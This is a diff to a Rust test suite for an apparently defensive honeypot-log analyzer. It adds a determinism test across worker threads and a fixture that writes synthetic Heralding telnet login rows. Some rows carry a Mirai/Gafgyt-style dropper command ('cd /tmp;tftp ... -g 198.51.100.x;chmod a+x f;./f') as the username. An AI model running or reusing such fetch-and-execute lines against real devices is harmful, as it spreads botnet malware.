@@ -319,7 +319,7 @@ fn cowrie_sample() {
         .find(|p| p.host == "203.0.113.66")
         .map(|p| p.methods.clone())
         .unwrap_or_default();
-    assert_eq!(gafgyt, ["wget", "curl", "tftp", "ftpget", "http"]);
+    assert_eq!(gafgyt, ["curl", "ftpget", "http", "tftp", "wget"]);
     let tokens = pairs(&r.iot.busybox_tokens);
     assert!(
         tokens.contains(&("MIRAI", 1)) && tokens.contains(&("ECCHI", 1)),
@@ -495,4 +495,76 @@ fn small_blocks_and_many_workers_give_the_same_report() {
     assert_eq!(split.totals.events, whole.totals.events);
     assert_eq!(split.payload_hosts.len(), whole.payload_hosts.len());
     assert_eq!(split.campaigns.len(), whole.campaigns.len());
+}
+
+/// Writes a Heralding CSV where a few busy sources each try far more distinct
+/// credential pairs and command lines than a source keeps (64 pairs, 16 lines), and
+/// payload hosts see many files: the cases where a capped list could depend on which
+/// worker saw which rows.
+fn busy_sources_log(dir: &std::path::Path) -> String {
+    use std::fmt::Write as _;
+    let mut csv = String::from(
+        "timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password\n",
+    );
+    for i in 0..6_000u32 {
+        let src = i % 5;
+        let user = format!("user{}", (i * 7919) % 300);
+        let line = format!(
+            "cd /tmp;tftp -l f{} -r f{} -g 198.51.100.{};chmod a+x f;./f",
+            i % 40,
+            i % 40,
+            i % 3
+        );
+        let (name, pass) = if i % 4 == 0 {
+            (line.as_str(), "system")
+        } else {
+            (user.as_str(), "pw")
+        };
+        let _ = writeln!(
+            csv,
+            "2016-12-14 {:02}:{:02}:{:02}.000000,a{i},s{},203.0.113.{src},{},,23,telnet,{name},{pass}{}",
+            (i / 3600) % 24,
+            (i / 60) % 60,
+            i % 60,
+            i / 3,
+            40_000 + i / 3,
+            i % 11
+        );
+    }
+    let path = dir.join("busy.csv");
+    std::fs::write(&path, csv).expect("write busy.csv");
+    path.to_string_lossy().into_owned()
+}
+
+#[test]
+fn capped_per_source_lists_do_not_depend_on_the_thread_split() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let input = vec![busy_sources_log(dir.path())];
+    let single = Options {
+        threads: 1,
+        ..Options::default()
+    };
+    let reference = analyze(&input, &single).expect("single-threaded report");
+    let reference = serde_json::to_string(&reference).expect("serialize");
+    for threads in [2, 3, 4] {
+        let split = Options {
+            threads,
+            block_size: 4_096,
+            ..Options::default()
+        };
+        let report = analyze(&input, &split).expect("multi-threaded report");
+        let got = serde_json::to_string(&report).expect("serialize");
+        let first_difference = got
+            .bytes()
+            .zip(reference.bytes())
+            .position(|(a, b)| a != b)
+            .unwrap_or(got.len().min(reference.len()));
+        assert!(
+            got == reference,
+            "{threads} threads with 4 KiB blocks gave a different report; first difference at \
+             byte {first_difference}: {:?} vs {:?}",
+            got.get(first_difference.saturating_sub(200)..first_difference + 200),
+            reference.get(first_difference.saturating_sub(200)..first_difference + 200)
+        );
+    }
 }
